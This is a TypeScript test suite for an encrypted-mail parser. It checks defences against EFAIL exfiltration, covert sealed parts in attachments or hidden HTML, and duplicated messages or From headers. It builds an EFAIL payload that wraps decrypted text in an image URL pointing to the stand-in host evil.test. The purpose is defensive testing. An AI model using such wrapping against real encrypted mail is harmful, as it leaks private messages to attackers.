/** Sealed parts in foreign shells: hidden in HTML, beside other text, attached, nested, doubled (EFAIL, covert content). */

import { parseAddress } from "../../src/mail/mailbox.js";
import { readPayload } from "../../src/mail/payload.js";
import { fromParts, partTypes, readSealedMail, writeSubmission } from "../../src/mail/sealed-mail.js";
import { openPost, type SealedMessage } from "../../src/protocol/index.js";
import { aliceSeals, type Cast, keysOf, makeCast, saysAlice } from "../protocol/people.js";
import { bytes } from "./forge.js";

let cast: Cast;
let sealed: Extract<SealedMessage, { mode: "key" }>;

beforeAll(async () => {
  cast = await makeCast("compatible");
  const post = await aliceSeals(cast, "key", bytes("the secret"));
  if (post.mode !== "key") throw new Error("mode key is meant");
  sealed = post;
});

const part = (type: string, content: Uint8Array | string, more = "") =>
  [
    "--b",
    `Content-Type: ${type}`,
    "Content-Transfer-Encoding: base64",
    ...(more === "" ? [] : [more]),
    "",
    Buffer.from(content).toString("base64").replace(/.{76}/g, "$&\r\n"),
  ].join("\r\n");
const mail = (type: string, parts: readonly string[]) =>
  bytes(
    [
      "From: Mallory <mallory@evil.test>",
      "To: team@lists.example",
      "Subject: look",
      "MIME-Version: 1.0",
      `Content-Type: ${type}; boundary=b`,
      "",
      ...parts,
      "--b--",
      "",
    ].join("\r\n"),
  );
const key = () => part(partTypes.key, sealed.key);
const body = () => part(partTypes.body, sealed.body);

describe("EFAIL: what is opened is put between an image's quotes, so that rendering sends it away", () => {
  const before = '<img src="https://evil.test/?';
  const after = '">';

  test("a reader that joins the opened part with its neighbours gives the secret away", async () => {
    const opened = await openPost(sealed, keysOf(cast, cast.alice), saysAlice(cast));
    if (opened.kind !== "opened") throw new Error("not opened");
    const joined = before + new TextDecoder().decode(opened.payload) + after;
    expect(joined).toBe('<img src="https://evil.test/?the secret">');
  });

  test("ours hands out the sealed message and nothing that stood around it", async () => {
    const raw = mail("multipart/mixed", [part("text/html", before), key(), body(), part("text/html", after)]);
    const read = await readSealedMail(raw);
    expect(read).toEqual({
      kind: "sealed",
      sealed,
      from: { name: "Mallory", address: parseAddress("mallory@evil.test") },
      references: [],
    });
    expect(JSON.stringify(read)).not.toContain("evil.test/?");
  });

  test("HTML inside the payload that is cut off is closed by its own end: nothing outside can follow", async () => {
    const letter = await readPayload(
      bytes(
        `From: a@b.test\r\nMessage-ID: <1@b.test>\r\nDate: Sun, 22 Nov 2026 10:00:00 +0000\r\nContent-Type: text/html\r\n\r\n${before}`,
      ),
    );
    expect(letter.html?.trimEnd()).toBe(before);
  });
});

describe("covert content: a sealed part where nobody looks for one", () => {
  test("in an attached mail: not found, so not opened by replying to or forwarding the mail around it", async () => {
    const inner = Buffer.from(
      writeSubmission({
        from: { address: parseAddress("alice@example.test") },
        list: parseAddress("team@lists.example"),
        date: new Date(),
        messageId: "<1@example.test>",
        references: [],
        sealed,
      }),
    );
    const raw = mail("multipart/mixed", [
      part("text/plain", "please have a look"),
      part("message/rfc822", inner),
    ]);
    await expect(readSealedMail(raw)).resolves.toEqual({ kind: "not-sealed" });
  });

  test("armored in a text or HTML part: text stays text", async () => {
    const armored = `-----BEGIN PGP MESSAGE-----\r\n\r\n${Buffer.from(sealed.key).toString("base64")}\r\n-----END PGP MESSAGE-----`;
    const raw = mail("multipart/alternative", [
      part("text/plain", armored),
      part("text/html", `<div style="display:none">${armored}</div>`),
    ]);
    await expect(readSealedMail(raw)).resolves.toEqual({ kind: "not-sealed" });
  });

  test("under another media type: a name is no type", async () => {
    const raw = mail("multipart/mixed", [
      part(
        "application/octet-stream",
        sealed.key,
        'Content-Disposition: attachment; filename="sealed-key.pgp"',
      ),
      part(
        "application/octet-stream",
        sealed.body,
        'Content-Disposition: attachment; filename="sealed-body.pgp"',
      ),
    ]);
    await expect(readSealedMail(raw)).resolves.toEqual({ kind: "not-sealed" });
  });
});

describe("two sealed messages in one mail: which one is shown, under whose name?", () => {
  test("a reader that takes the first of each kind mixes them; ours takes none", async () => {
    const other = await aliceSeals(cast, "key", bytes("another"), "<2@example.test>");
    if (other.mode !== "key") throw new Error("mode key is meant");
    const parts = [
      { type: partTypes.key, bytes: sealed.key },
      { type: partTypes.body, bytes: other.body },
      { type: partTypes.key, bytes: other.key },
      { type: partTypes.body, bytes: sealed.body },
    ];
    const firstOf = (type: string) => parts.find((each) => each.type === type)?.bytes;
    expect([firstOf(partTypes.key), firstOf(partTypes.body)]).toEqual([sealed.key, other.body]);
    expect(() => fromParts(parts)).toThrow(expect.objectContaining({ code: "damaged" }));
    const raw = mail("multipart/mixed", [
      key(),
      body(),
      part(partTypes.key, other.key),
      part(partTypes.body, other.body),
    ]);
    await expect(readSealedMail(raw)).rejects.toMatchObject({ code: "damaged" });
  });

  test.each([
    ["a key part beside a whole message", [partTypes.key, partTypes.message]],
    ["a body alone", [partTypes.body]],
    ["a list signature alone", [partTypes.through]],
    ["everything", Object.values(partTypes)],
  ])("%s makes no message", (_, types) => {
    expect(() => fromParts(types.map((type) => ({ type, bytes: sealed.key })))).toThrow(
      expect.objectContaining({ code: "damaged" }),
    );
  });

  test("two From: the one that is checked and the one that is shown would differ", async () => {
    const raw = Buffer.concat([
      bytes("From: alice@example.test\r\n"),
      mail("multipart/mixed", [key(), body()]),
    ]);
    await expect(readSealedMail(raw)).rejects.toMatchObject({ code: "damaged" });
  });
});
